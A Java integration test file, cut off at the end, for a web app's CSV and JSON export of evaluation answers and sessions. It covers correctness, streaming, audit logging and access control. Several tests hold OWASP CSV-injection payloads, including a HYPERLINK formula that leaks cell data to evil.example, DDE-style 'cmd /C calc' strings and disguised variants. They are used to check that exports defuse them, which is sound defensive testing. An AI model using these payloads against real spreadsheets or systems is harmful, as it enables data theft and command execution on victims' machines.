package com.earshot.insights.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.earshot.evaluation.Assignment;
import com.earshot.evaluation.AssignmentService;
import com.earshot.evaluation.CallService;
import com.earshot.evaluation.EvaluationSession;
import com.earshot.evaluation.SubmissionOutcome;
import com.earshot.evaluation.SubmissionService;
import com.earshot.identity.Role;
import com.earshot.support.EarshotTest;
import com.earshot.support.Fixtures;
import com.earshot.support.Person;
import java.io.IOException;
import java.io.OutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.transaction.PlatformTransactionManager;
import org.springframework.transaction.support.TransactionTemplate;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The four exports as an admin downloads them, parsed back (a real CSV parser, Jackson for JSON)
 * and compared field by field with what the database holds. The answers are given through the
 * evaluation module's own services, as testers give them.
 */
@EarshotTest
class ExportWebTests {

  /** Commas, quotes, line breaks (both kinds) and characters outside ASCII. */
  static final String TRICKY = "Hello, \"world\"\nsecond line,\r\nthird; ünïcödé — 🎧 \"quoted\"";

  static final String FORMULA = "=HYPERLINK(\"http://evil.example\",\"click\")";

  /** What both exports end with: a session's call and whether it counts (V25). */
  static final List<String> CALL_COLUMNS =
      List.of(
          "elevenlabs_conversation_id",
          "call_duration_secs",
          "termination_reason",
          "agent_version_id",
          "flag_no_call",
          "flag_call_failed",
          "flag_too_short",
          "flag_too_fast",
          "flag_blinding_broken",
          "flag_problem_reported",
          "flag_admin_evaluated",
          "counted",
          "exclusion",
          "exclusion_reason");

  static final List<String> SESSION_COLUMNS =
      withCallColumns(
          List.of(
              "playground_id",
              "session_id",
              "status",
              "tester_email",
              "model_key",
              "model_name",
              "configuration_version",
              "round",
              "position",
              "shown_as",
              "started_at",
              "expires_at",
              "submitted_at",
              "call_started_at",
              "conversation_id"));

  static final List<String> ANSWER_COLUMNS =
      withCallColumns(
          List.of(
              "playground_id",
              "session_id",
              "session_status",
              "tester_email",
              "model_key",
              "model_name",
              "configuration_version",
              "round",
              "position",
              "shown_as",
              "question_id",
              "question_order",
              "question_text",
              "question_type",
              "answer_value",
              "answer_label",
              "rating",
              "answer_text",
              "answered_at",
              "session_started_at",
              "session_submitted_at",
              "call_started_at",
              "conversation_id"));

  static final JsonMapper JSON = JsonMapper.builder().build();

  @Autowired MockMvcTester mvc;
  @Autowired AssignmentService assignments;
  @Autowired SubmissionService submissions;
  @Autowired CallService calls;
  @Autowired ExportService exports;
  @Autowired ExportQueries queries;
  @Autowired JdbcClient appJdbc;
  @Autowired PlatformTransactionManager transactions;

  final Fixtures fixtures = new Fixtures();
  final JdbcClient db = fixtures.jdbc();

  Person admin;
  UUID playground;
  UUID sound;
  UUID quality;
  UUID qualityOfA;
  UUID anythingElse;
  UUID statusOfB;

  /**
   * An A/B playground owned by {@code admin}: a shared select, a shared rating, a text about model
   * A with the same text as the rating, an optional shared text, and a select about model B whose
   * text is that of a session column. Two testers did a round and a half; a third let a session
   * lapse.
   */
  @BeforeEach
  void aPlaygroundWithSubmittedSessions() {
    admin = person(fixtures.admin("exporter"), Role.ADMIN);
    playground = fixtures.abPlayground(admin.id());
    db.sql("UPDATE playgrounds SET name = 'Voices, round 1 — Ünïcode!' WHERE id = ?")
        .param(playground)
        .update();
    sound = fixtures.selectQuestion(playground, null, "warm", "cold");
    db.sql("UPDATE questions SET question_text = ?, options = ?::jsonb WHERE id = ?")
        .params(
            "How did it sound?",
            "[{\"label\":\"Warm, “friendly”\",\"value\":\"warm\"},"
                + "{\"label\":\"=cold\",\"value\":\"cold\"}]",
            sound)
        .update();
    quality = question(fixtures.question(playground, null, "rating", null), "Overall quality");
    qualityOfA =
        question(fixtures.question(playground, "model_a", "input_string", null), "Overall quality");
    anythingElse =
        question(fixtures.question(playground, null, "input_string", null), "Anything else?");
    db.sql("UPDATE questions SET required = false WHERE id = ?").param(anythingElse).update();
    statusOfB = question(fixtures.selectQuestion(playground, "model_b", "good", "bad"), "status");

    Person first = person(fixtures.tester("first"), Role.TESTER);
    for (int i = 0; i < 2; i++) {
      EvaluationSession session = assign(first);
      boolean a = session.modelKey().databaseValue().equals("model_a");
      Map<String, String> form = new LinkedHashMap<>();
      form.put("q-" + sound, a ? "warm" : "cold");
      form.put("q-" + quality, a ? "4" : "2");
      if (a) {
        form.put("q-" + qualityOfA, TRICKY);
      } else {
        form.put("q-" + anythingElse, FORMULA);
        form.put("q-" + statusOfB, "good");
      }
      submit(first, session, form);
    }

    // Model B's agent changes: later sessions on it run against version 2.
    db.sql(
            """
            UPDATE model_configurations SET configuration_version = 2, model_name = 'Crisp, v2'
            WHERE playground_id = ? AND model_key = 'model_b'
            """)
        .param(playground)
        .update();

    Person second = person(fixtures.tester("second"), Role.TESTER);
    EvaluationSession session = assign(second);
    second.run(() -> calls.callConnected(session.id(), "conv_second_1"));
    boolean a = session.modelKey().databaseValue().equals("model_a");
    Map<String, String> form = new LinkedHashMap<>();
    form.put("q-" + sound, "cold");
    form.put("q-" + quality, "5");
    form.put("q-" + anythingElse, "-1 would not call again, @support");
    form.put("q-" + (a ? qualityOfA : statusOfB), a ? "fine" : "bad");
    submit(second, session, form);
    assign(second); // the other model, never submitted

    fixtures.lapsedSession(playground, fixtures.tester("lapsed"), "model_a", "expired");

    // Someone else's playground with an answer of its own: never part of this export.
    UUID elsewhere = fixtures.abPlayground(fixtures.admin("other-owner"));
    UUID elsewhereQuestion = fixtures.question(elsewhere, null, "rating", null);
    UUID stranger = fixtures.tester("stranger");
    fixtures.answer(
        fixtures.submittedSession(elsewhere, stranger, "model_a"), elsewhereQuestion, 3);
  }

  // --- answers --------------------------------------------------------------------------------

  @Test
  void shouldExportEveryAnswerAsCsvWithTheValuesTheDatabaseHolds() throws IOException {
    MockHttpServletResponse response = download(admin, "answers.csv");

    assertThat(response.getStatus()).isEqualTo(200);
    assertThat(response.getContentType()).startsWith("text/csv").contains("UTF-8");
    assertThat(response.getHeader("Content-Disposition"))
        .isEqualTo(
            "attachment; filename=\"voices-round-1-unicode-answers-%s.csv\""
                .formatted(LocalDate.now(ZoneOffset.UTC)));
    Csv csv = csv(response);
    assertThat(csv.header()).isEqualTo(ANSWER_COLUMNS);
    List<Map<String, Object>> expected = expectedAnswers();
    assertThat(expected).as("3 + 4 + 4 answers").hasSize(11);
    assertThat(csv.rows()).hasSameSizeAs(expected);
    for (int i = 0; i < expected.size(); i++) {
      assertCsvRow(csv.rows().get(i), expected.get(i));
    }
  }

  @Test
  void shouldExportEveryAnswerAsJsonWithTypedValues() throws IOException {
    MockHttpServletResponse response = download(admin, "answers.json");

    assertThat(response.getStatus()).isEqualTo(200);
    assertThat(response.getContentType()).startsWith("application/json");
    assertThat(response.getHeader("Content-Disposition"))
        .isEqualTo(
            "attachment; filename=\"voices-round-1-unicode-answers-%s.json\""
                .formatted(LocalDate.now(ZoneOffset.UTC)));
    JsonNode array = json(response);
    List<Map<String, Object>> expected = expectedAnswers();
    assertThat(array.isArray()).isTrue();
    assertThat(array.size()).isEqualTo(expected.size());
    for (int i = 0; i < expected.size(); i++) {
      assertJsonRow(array.get(i), ANSWER_COLUMNS, expected.get(i));
    }
  }

  @Test
  void shouldKeepATextWithCommasQuotesLineBreaksAndUnicodeWordForWord() throws IOException {
    String raw = download(admin, "answers.csv").getContentAsString(StandardCharsets.UTF_8);
    assertThat(raw)
        .as("quoted, quotes doubled (RFC 4180)")
        .contains("\"Hello, \"\"world\"\"\nsecond line,\r\nthird; ünïcödé — 🎧 \"\"quoted\"\"\"");
    assertThat(raw).as("records end with CRLF").startsWith("playground_id,session_id,");
    assertThat(raw.substring(0, raw.indexOf('\n'))).endsWith("\r");

    assertThat(csv(download(admin, "answers.csv")).rows())
        .filteredOn(row -> row.get("question_id").equals(qualityOfA.toString()))
        .extracting(row -> row.get("answer_text"))
        .contains(TRICKY);
    assertThat(csv(download(admin, "sessions.csv")).rows())
        .extracting(row -> row.get("Overall quality (2)"))
        .contains(TRICKY);
    JsonNode answers = json(download(admin, "answers.json"));
    List<String> texts = new ArrayList<>();
    answers.forEach(row -> texts.add(row.get("answer_text").asString(null)));
    assertThat(texts).contains(TRICKY);
  }

  /**
   * Model B was renamed when its version 2 began: its version 1 sessions keep the name they ran
   * under, in both exports and both formats (they used to carry version 2's).
   */
  @Test
  void shouldExportEachSessionUnderTheNameItsVersionHad() throws IOException {
    for (String table : List.of("answers", "sessions")) {
      Map<String, Set<String>> namesByVersion = new TreeMap<>();
      for (Map<String, String> row : csv(download(admin, table + ".csv")).rows()) {
        if (row.get("model_key").equals("model_b")) {
          namesByVersion
              .computeIfAbsent(row.get("configuration_version"), v -> new TreeSet<>())
              .add(row.get("model_name"));
        }
      }
      assertThat(namesByVersion).as(table + ".csv").containsEntry("1", Set.of("Model model_b"));
      Map<String, Set<String>> jsonNames = new TreeMap<>();
      for (JsonNode row : json(download(admin, table + ".json"))) {
        if (row.get("model_key").asString().equals("model_b")) {
          jsonNames
              .computeIfAbsent(row.get("configuration_version").asString(), v -> new TreeSet<>())
              .add(row.get("model_name").asString());
        }
      }
      assertThat(jsonNames).as(table + ".json").isEqualTo(namesByVersion);
    }
    assertThat(csv(download(admin, "sessions.csv")).rows())
        .filteredOn(row -> row.get("configuration_version").equals("2"))
        .filteredOn(row -> row.get("model_key").equals("model_b"))
        .isNotEmpty()
        .extracting(row -> row.get("model_name"))
        .containsOnly("Crisp, v2");
  }

  @Test
  void shouldDefuseFormulasInCsvCellsButExportJsonAsTyped() throws IOException {
    UUID comment = anythingElse;
    UUID tester = fixtures.tester("formulas");
    List<String> dangerous = List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tTAB", "\rCR");
    for (String text : dangerous) {
      fixtures.answer(fixtures.submittedSession(playground, tester, "model_b"), comment, text);
    }
    fixtures.answer(fixtures.submittedSession(playground, tester, "model_b"), comment, "a=b");

    Map<String, String> csvTexts = new LinkedHashMap<>();
    for (Map<String, String> row : csv(download(admin, "answers.csv")).rows()) {
      if (row.get("tester_email").equals(fixtures.emailOf(tester))) {
        csvTexts.put(row.get("session_id"), row.get("answer_text"));
      }
    }
    assertThat(csvTexts.values())
        .containsExactlyInAnyOrder("'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tTAB", "'\rCR", "a=b");

    List<String> jsonTexts = new ArrayList<>();
    for (JsonNode row : json(download(admin, "answers.json"))) {
      if (row.get("tester_email").asString().equals(fixtures.emailOf(tester))) {
        jsonTexts.add(row.get("answer_text").asString());
      }
    }
    assertThat(jsonTexts)
        .containsExactlyInAnyOrder("=1+1", "+1", "-1", "@SUM(A1)", "\tTAB", "\rCR", "a=b");

    Csv sessions = csv(download(admin, "sessions.csv"));
    assertThat(sessions.rows())
        .extracting(row -> row.get("Anything else?"))
        .contains("'" + FORMULA, "'-1 would not call again, @support", "'=1+1", "a=b")
        .doesNotContain(FORMULA);
    assertThat(csv(download(admin, "answers.csv")).rows())
        .filteredOn(row -> row.get("answer_value").equals("cold"))
        .extracting(row -> row.get("answer_label"))
        .as("labels are cells too")
        .containsOnly("'=cold");
  }

  /**
   * The cases of OWASP's CSV Injection page
   * (https://owasp.org/www-community/attacks/CSV_Injection): no cell may begin with =, +, -, @, a
   * tab or a carriage return, whatever it is preceded by (spaces, invisible characters) or written
   * as (fullwidth signs); and a separator inside a cell (the page names "," and ";") must not let a
   * spreadsheet start a new cell inside it, so such a cell is quoted. The JSON export still carries
   * what was typed.
   */
  @Test
  void shouldDefuseTheOwaspCsvInjectionCasesAndTheirDisguises() throws IOException {
    List<String> owasp =
        List.of(
            "=1+1",
            "+1+1",
            "-1+1",
            "@SUM(1+9)",
            "\t=1+1",
            "\r=1+1",
            "=cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"Error: please click\")",
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2");
    List<String> disguised =
        List.of(
            " =1+1",
            "\u00a0=1+1",
            "\u200b=1+1",
            "\ufeff=1+1",
            "\u2060\u3000 @SUM(1+9)",
            "\n-1+1",
            "\uff1d1+1",
            "\uff0b1+1",
            "\uff0d1+1",
            "\uff20SUM(1+9)",
            "\ufe661+1");
    List<String> separated = List.of("x;=1+1", "x,=1+1", "x\t=1+1");
    UUID tester = fixtures.tester("owasp");
    List<String> typed = new ArrayList<>();
    typed.addAll(owasp);
    typed.addAll(disguised);
    typed.addAll(separated);
    for (String text : typed) {
      fixtures.answer(fixtures.submittedSession(playground, tester, "model_b"), anythingElse, text);
    }

    MockHttpServletResponse download = download(admin, "answers.csv");
    List<String> cells = new ArrayList<>();
    for (Map<String, String> row : csv(download).rows()) {
      if (row.get("tester_email").equals(fixtures.emailOf(tester))) {
        cells.add(row.get("answer_text"));
      }
    }
    List<String> expected = new ArrayList<>();
    owasp.forEach(text -> expected.add("'" + text));
    disguised.forEach(text -> expected.add("'" + text));
    expected.addAll(separated);
    assertThat(cells).containsExactlyInAnyOrderElementsOf(expected);
    String raw = download.getContentAsString(StandardCharsets.UTF_8);
    assertThat(raw)
        .as("a cell holding a separator is quoted")
        .contains(",\"x;=1+1\",", ",\"x,=1+1\",", ",\"x\t=1+1\",", ",\"'=1+2\"\";=1+2\",");

    List<String> json = new ArrayList<>();
    for (JsonNode row : json(download(admin, "answers.json"))) {
      if (row.get("tester_email").asString().equals(fixtures.emailOf(tester))) {
        json.add(row.get("answer_text").asString());
      }
    }
    assertThat(json).containsExactlyInAnyOrderElementsOf(typed);
  }

  // --- sessions -------------------------------------------------------------------------------

  @Test
  void shouldExportOneCsvRowPerSessionWithAColumnPerQuestion() throws IOException {
    MockHttpServletResponse response = download(admin, "sessions.csv");

    assertThat(response.getStatus()).isEqualTo(200);
    assertThat(response.getHeader("Content-Disposition"))
        .isEqualTo(
            "attachment; filename=\"voices-round-1-unicode-sessions-%s.csv\""
                .formatted(LocalDate.now(ZoneOffset.UTC)));
    Csv csv = csv(response);
    assertThat(csv.header()).isEqualTo(sessionColumns());
    List<Map<String, Object>> expected = expectedSessions();
    assertThat(expected)
        .extracting(row -> row.get("status"))
        .containsExactlyInAnyOrder("submitted", "submitted", "submitted", "assigned", "expired");
    assertThat(csv.rows()).hasSameSizeAs(expected);
    for (int i = 0; i < expected.size(); i++) {
      assertCsvRow(csv.rows().get(i), expected.get(i));
    }
  }

  @Test
  void shouldExportOneJsonObjectPerSessionWithAPropertyPerQuestion() throws IOException {
    MockHttpServletResponse response = download(admin, "sessions.json");

    assertThat(response.getStatus()).isEqualTo(200);
    assertThat(response.getContentType()).startsWith("application/json");
    JsonNode array = json(response);
    List<Map<String, Object>> expected = expectedSessions();
    assertThat(array.size()).isEqualTo(expected.size());
    for (int i = 0; i < expected.size(); i++) {
      assertJsonRow(array.get(i), sessionColumns(), expected.get(i));
    }
  }

  @Test
  void shouldNameRepeatedQuestionTextsApartInQuestionOrder() throws IOException {
    db.sql("UPDATE questions SET question_text = 'Overall quality' WHERE id = ?")
        .param(anythingElse)
        .update();

    assertThat(csv(download(admin, "sessions.csv")).header())
        .endsWith(
            "How did it sound?",
            "Overall quality",
            "Overall quality (2)",
            "Overall quality (3)",
            "status (2)");
    assertThat(json(download(admin, "sessions.json")).get(0).propertyNames())
        .endsWith(
            "How did it sound?",
            "Overall quality",
            "Overall quality (2)",
            "Overall quality (3)",
            "status (2)");
  }

  @Test
  void shouldExportAPlaygroundWithoutSessionsAsHeaderOnly() throws IOException {
    UUID empty = fixtures.abPlayground(admin.id());
    fixtures.question(empty, null, "rating", null);

    for (String file : List.of("answers.csv", "sessions.csv")) {
      MockHttpServletResponse response = download(admin, empty, file);
      assertThat(response.getStatus()).isEqualTo(200);
      assertThat(csv(response).rows()).isEmpty();
    }
    for (String file : List.of("answers.json", "sessions.json")) {
      assertThat(json(download(admin, empty, file)).isEmpty()).isTrue();
    }
  }

  // --- streaming ------------------------------------------------------------------------------

  @Test
  void shouldReadThroughADatabaseCursorInsideTheTransaction() throws IOException {
    UUID big = fixtures.playground(admin.id(), "tuning", true, null);
    UUID stars = fixtures.question(big, null, "rating", null);
    UUID tester = fixtures.tester("many");
    int count = ExportQueries.FETCH_SIZE * 2 + 7;
    db.sql(
            """
            INSERT INTO evaluation_sessions (playground_id, user_id, model_key, status,
                                             configuration_version, round_number, submitted_at)
            SELECT ?, ?, 'model_a', 'submitted', 1, n, now() + n * interval '1 second'
            FROM generate_series(1, ?) AS n
            """)
        .params(big, tester, count)
        .update();
    db.sql(
            """
            INSERT INTO evaluations (playground_id, user_id, model_key, question_id, session_id,
                                     rating)
            SELECT playground_id, user_id, model_key, ?, id, 1 + round_number % 5
            FROM evaluation_sessions WHERE playground_id = ?
            """)
        .params(stars, big)
        .update();

    AtomicInteger rows = new AtomicInteger();
    AtomicLong openCursors = new AtomicLong(-1);
    TransactionTemplate reading = new TransactionTemplate(transactions);
    reading.setReadOnly(true);
    admin.run(
        () ->
            reading.executeWithoutResult(
                status ->
                    queries.eachAnswer(
                        big,
                        row -> {
                          if (rows.incrementAndGet() == 1) {
                            // Same connection: the rest of the rows are still on the server.
                            // A named portal: the driver's cursor ("C_1"), not the unnamed
                            // one this very query runs in.
                            openCursors.set(
                                appJdbc
                                    .sql("SELECT count(*) FROM pg_cursors WHERE name <> ''")
                                    .query(Long.class)
                                    .single());
                          }
                        })));

    assertThat(rows).hasValue(count);
    assertThat(openCursors.get()).as("an open portal while the first row is handled").isPositive();

    Csv csv = csv(download(admin, big, "answers.csv"));
    assertThat(csv.rows()).hasSize(count);
    assertThat(csv.rows())
        .extracting(row -> row.get("round"))
        .as("in the order the sessions were submitted")
        .containsExactlyElementsOf(
            java.util.stream.IntStream.rangeClosed(1, count).mapToObj(String::valueOf).toList());
    assertThat(csv(download(admin, big, "sessions.csv")).rows()).hasSize(count);
  }

  // --- audit ----------------------------------------------------------------------------------

  @Test
  void shouldRecordEachExportInTheAuditLog() {
    for (String file : List.of("answers.csv", "answers.json", "sessions.csv", "sessions.json")) {
      assertThat(download(admin, file).getStatus()).isEqualTo(200);
    }

    assertThat(exportAudits())
        .containsExactly(
            admin.id()
                + " playground "
                + playground
                + " 127.0.0.1 {\"shape\": \"answers\", \"format\": \"csv\"}",
            admin.id()
                + " playground "
                + playground
                + " 127.0.0.1 {\"shape\": \"answers\", \"format\": \"json\"}",
            admin.id()
                + " playground "
                + playground
                + " 127.0.0.1 {\"shape\": \"sessions\", \"format\": \"csv\"}",
            admin.id()
                + " playground "
                + playground
                + " 127.0.0.1 {\"shape\": \"sessions\", \"format\": \"json\"}");
  }

  @Test
  void shouldHaveCommittedTheAuditRowWhenTheDownloadBreaksOff() {
    OutputStream broken =
        new OutputStream() {
          @Override
          public void write(int b) throws IOException {
            throw new IOException("Connection reset by peer");
          }

          @Override
          public void write(byte[] bytes, int offset, int length) throws IOException {
            throw new IOException("Connection reset by peer");
          }
        };

    assertThatThrownBy(
            () ->
                admin.run(
                    () -> {
                      try {
                        exports.export(
                            playground,
                            ExportFile.parse("sessions.csv"),
                            (fileName, contentType) -> broken);
                      } catch (IOException e) {
                        throw new java.io.UncheckedIOException(e);
                      }
                    }))
        .hasRootCauseMessage("Connection reset by peer");
    assertThat(exportAudits()).hasSize(1).allMatch(row -> row.endsWith("\"format\": \"csv\"}"));
  }

  // --- who may export -------------------------------------------------------------------------

  @ParameterizedTest
  @ValueSource(strings = {"answers.csv", "answers.json", "sessions.csv", "sessions.json"})
  void shouldAnswer404ToATesterAndToAnotherAdminWithoutAnAuditRow(String file) {
    Person tester = person(fixtures.tester("curious"), Role.TESTER);
    Person otherAdmin = person(fixtures.admin("other"), Role.ADMIN);

    assertThat(download(tester, file).getStatus()).isEqualTo(404);
    assertThat(download(otherAdmin, file).getStatus()).isEqualTo(404);

    assertThat(exportAudits()).isEmpty();
    assertThat(
            db.sql(
                    "SELECT count(*) FROM audit_log WHERE action = 'playground.export' AND user_id IN (?, ?)")
                .params(tester.id(), otherAdmin.id())
                .query(Long.class)
                .single())
        .isZero();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/manage/playgrounds/00000000-0000-0000-0000-000000000000/export/answers.csv",
        "/manage/playgrounds/not-a-uuid/export/answers.csv",
        "/manage/playgrounds/{own}/export/answers.xml",
        "/manage/playgrounds/{own}/export/everything.csv",
        "/manage/playgrounds/{own}/export/answers"
      })
  void shouldAnswer404ToWhatIsNotThere(String uri) {
    MockHttpServletResponse response =
        mvc.get()
            .uri(uri.replace("{own}", playground.toString()))
            .with(admin.signedIn())
            .exchange()
            .getResponse();

    assertThat(response.getStatus()).isEqualTo(404);
    assertThat(response.getHeader("Content-Disposition")).isNull();
    assertThat(exportAudits()).isEmpty();
  }

  @Test
  void shouldLinkTheDownloadsFromThePlaygroundEditor() throws IOException {
    String page =
        mvc.get()
            .uri("/manage/playgrounds/{id}", playground)
            .with(admin.signedIn())
            .exchange()
            .getResponse()
            .getContentAsString(StandardCharsets.UTF_8);
    org.jsoup.nodes.Document document = org.jsoup.Jsoup.parse(page);

    assertThat(document.select("#export a[href]"))
        .extracting(link -> link.attr("href"))
        .containsExactly(
            "/manage/playgrounds/" + playground + "/export/answers.csv",
            "/manage/playgrounds/" + playground + "/export/answers.json",
            "/manage/playgrounds/" + playground + "/export/sessions.csv",
            "/manage/playgrounds/" + playground + "/export/sessions.json",
            "/manage/playgrounds/" + playground + "/export/preferences.csv",
            "/manage/playgrounds/" + playground + "/export/preferences.json");
  }

  // --- what the database holds ----------------------------------------------------------------

  /** Every answer of the playground, as the superuser reads it, in the documented order. */
  List<Map<String, Object>> expectedAnswers() {
    return db.sql(
            """
            SELECT s.playground_id, s.id AS session_id, s.status::text AS status, u.email,
                   s.model_key, coalesce((SELECT v.model_name FROM model_versions v
                             WHERE v.playground_id = s.playground_id AND v.model_key = s.model_key
                               AND v.configuration_version = s.configuration_version),
                            m.model_name) AS model_name,
                   s.configuration_version, s.round_number, s.position,
                   q.id AS question_id, q.order_index, q.question_text,
                   q.question_type::text AS question_type, q.options::text AS options,
                   e.answer_value, e.rating, e.answer_text, e.created_at, s.started_at,
                   s.submitted_at, s.call_started_at, s.conversation_id
            FROM evaluations e, evaluation_sessions s, questions q, users u, model_configurations m
            WHERE e.playground_id = ? AND s.id = e.session_id AND q.id = e.question_id
              AND u.id = e.user_id AND m.playground_id = s.playground_id
              AND m.model_key = s.model_key
            ORDER BY coalesce(s.submitted_at, s.started_at), s.id, q.order_index
            """)
        .param(playground)
        .query(
            (rs, n) -> {
              Map<String, Object> row = new LinkedHashMap<>();
              row.put("playground_id", rs.getString("playground_id"));
              row.put("session_id", rs.getString("session_id"));
              row.put("session_status", rs.getString("status"));
              row.put("tester_email", rs.getString("email"));
              row.put("model_key", rs.getString("model_key"));
              row.put("model_name", rs.getString("model_name"));
              row.put("configuration_version", rs.getInt("configuration_version"));
              row.put("round", rs.getInt("round_number"));
              row.put("position", rs.getInt("position"));
              row.put("shown_as", "Agent " + rs.getInt("position"));
              row.put("question_id", rs.getString("question_id"));
              row.put("question_order", rs.getInt("order_index"));
              row.put("question_text", rs.getString("question_text"));
              row.put("question_type", rs.getString("question_type"));
              row.put("answer_value", rs.getString("answer_value"));
              row.put("answer_label", label(rs.getString("options"), rs.getString("answer_value")));
              row.put("rating", rs.getObject("rating"));
              row.put("answer_text", rs.getString("answer_text"));
              row.put("answered_at", rs.getObject("created_at", LocalDateTime.class));
              row.put("session_started_at", rs.getObject("started_at", LocalDateTime.class));
              row.put("session_submitted_at", rs.getObject("submitted_at", LocalDateTime.class));
              row.put("call_started_at", rs.getObject("call_started_at", LocalDateTime.class));
              row.put("conversation_id", rs.getString("conversation_id"));
              row.putAll(
                  callColumns(rs.getObject("session_id", UUID.class), rs.getString("status")));
              return row;
            })
        .list();
  }

  /**
   * A session's call columns: no conversation is stored here; its flags as the database raised them
   * (V25), and whether it counts (submitted and not flagged: nobody decided otherwise here).
   */
  Map<String, Object> callColumns(UUID session, String status) {
    List<String> raised =
        db.sql("SELECT flag FROM session_flags WHERE session_id = ?")
            .param(session)
            .query(String.class)
            .list();
    Map<String, Object> columns = new LinkedHashMap<>();
    columns.put("elevenlabs_conversation_id", null);
    columns.put("call_duration_secs", null);
    columns.put("termination_reason", null);
    columns.put("agent_version_id", null);
    for (String column : CALL_COLUMNS.subList(4, 11)) {
      columns.put(column, raised.contains(column.substring("flag_".length())));
    }
    columns.put("counted", status.equals("submitted") && raised.isEmpty());
    columns.put("exclusion", null);
    columns.put("exclusion_reason", null);
    return columns;
  }

  /** Every session of the playground with its answers under their question columns. */
  List<Map<String, Object>> expectedSessions() {
    List<UUID> questions = List.of(sound, quality, qualityOfA, anythingElse, statusOfB);
    List<String> headers =
        sessionColumns().subList(SESSION_COLUMNS.size(), sessionColumns().size());
    return db
        .sql(
            """
            SELECT s.*, s.status::text AS status_text, u.email,
                   coalesce((SELECT v.model_name FROM model_versions v
                             WHERE v.playground_id = s.playground_id AND v.model_key = s.model_key
                               AND v.configuration_version = s.configuration_version),
                            m.model_name) AS model_name
            FROM evaluation_sessions s, users u, model_configurations m
            WHERE s.playground_id = ? AND u.id = s.user_id AND m.playground_id = s.playground_id
              AND m.model_key = s.model_key
            ORDER BY coalesce(s.submitted_at, s.started_at), s.id
            """)
        .param(playground)
        .query(
            (rs, n) -> {
              Map<String, Object> row = new LinkedHashMap<>();
              row.put("playground_id", rs.getString("playground_id"));
              row.put("session_id", rs.getString("id"));
              row.put("status", rs.getString("status_text"));
              row.put("tester_email", rs.getString("email"));
              row.put("model_key", rs.getString("model_key"));
              row.put("model_name", rs.getString("model_name"));
              row.put("configuration_version", rs.getInt("configuration_version"));
              row.put("round", rs.getInt("round_number"));
              row.put("position", rs.getInt("position"));
              row.put("shown_as", "Agent " + rs.getInt("position"));
              row.put("started_at", rs.getObject("started_at", LocalDateTime.class));
              row.put("expires_at", rs.getObject("expires_at", LocalDateTime.class));
              row.put("submitted_at", rs.getObject("submitted_at", LocalDateTime.class));
              row.put("call_started_at", rs.getObject("call_started_at", LocalDateTime.class));
              row.put("conversation_id", rs.getString("conversation_id"));
              row.putAll(callColumns(rs.getObject("id", UUID.class), rs.getString("status_text")));
              return row;
            })
        .list()
        .stream()
        .map(
            row -> {
              for (int i = 0; i < questions.size(); i++) {
                row.put(
                    headers.get(i),
                    answer(UUID.fromString((String) row.get("session_id")), questions.get(i)));
              }
              return row;
            })
        .toList();
  }

  /** The stored answer: the option value, the rating or the text; null when not answered. */
  Object answer(UUID session, UUID question) {
    return db.sql(
            """
            SELECT answer_value, rating, answer_text FROM evaluations
            WHERE session_id = ? AND question_id = ?
            """)
        .params(session, question)
        .query(
            (rs, n) ->
                rs.getString("answer_value") != null
                    ? rs.getString("answer_value")
                    : rs.getObject("rating") != null
                        ? rs.getObject("rating")
                        : rs.getString("answer_text"))
        .optional()
        .orElse(null);
  }

  static List<String> withCallColumns(List<String> columns) {
    List<String> all = new ArrayList<>(columns);
    all.addAll(CALL_COLUMNS);
    return List.copyOf(all);
  }

  static List<String> sessionColumns() {
    List<String> columns = new ArrayList<>(SESSION_COLUMNS);
    columns.addAll(
        List.of(
            "How did it sound?",
            "Overall quality",
            "Overall quality (2)",
            "Anything else?",
            "status (2)"));
    return columns;
  }

  static String label(String options, String value) {
    if (options == null || value == null) {
      return null;
    }
    for (JsonNode option : JSON.readTree(options)) {
      if (option.get("value").asString().equals(value)) {
        return option.get("label").asString();
      }
    }
    return null;
  }

  /** The audit rows of exports of the playground: "user resource_type resource ip details". */
  List<String> exportAudits() {
    return db.sql(
            """
            SELECT user_id || ' ' || resource_type || ' ' || resource_id || ' '
                   || coalesce(host(ip_address), '-') || ' ' || new_values::text
            FROM audit_log
            WHERE action = 'playground.export' AND playground_id = ?
            ORDER BY created_at, id
            """)
        .param(playground)
        .query(String.class)
        .list();
  }

  // --- comparing ------------------------------------------------------------------------------

  /** A CSV cell: text as stored, a formula defused; timestamps in UTC ISO-8601; empty for null. */
  static void assertCsvRow(Map<String, String> actual, Map<String, Object> expected) {
    assertThat(actual.keySet()).containsExactlyElementsOf(expected.keySet());
    expected.forEach(
        (column, value) -> {
          String cell = actual.get(column);
          String where = column + " of " + expected.get("session_id");
          if (value == null) {
            assertThat(cell).as(where).isEmpty();
          } else if (value instanceof LocalDateTime time) {
            assertThat(cell).as(where).endsWith("Z");
            assertThat(OffsetDateTime.parse(cell).toLocalDateTime()).as(where).isEqualTo(time);
          } else {
            String text = value.toString();
            if (!text.isEmpty() && "=+-@\t\r".indexOf(text.charAt(0)) >= 0) {
              text = "'" + text;
            }
            assertThat(cell).as(where).isEqualTo(text);
          }
        });
  }

  /** A JSON property: numbers as numbers, null as null, text unaltered. */
  static void assertJsonRow(JsonNode actual, List<String> columns, Map<String, Object> expected) {
